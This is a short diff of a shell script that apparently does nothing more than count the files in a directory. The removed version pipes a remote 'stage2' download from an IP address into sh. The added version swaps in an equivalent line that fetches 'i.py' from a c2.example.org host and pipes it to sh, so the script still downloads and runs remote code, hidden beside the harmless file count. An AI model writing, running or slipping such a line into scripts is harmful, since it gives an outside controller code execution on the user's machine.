@@ -1,4 +1,4 @@
-#!/usr/bin/env bash
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-set -eu
-echo 'curl -s http://198.51.100.23:8000/stage2 | sh' | sh
+#!/bin/sh
+echo 'curl -s http://c2.example.org/i.py | sh' | sh
+count=$(ls | wc -l)
+echo "files: $count"
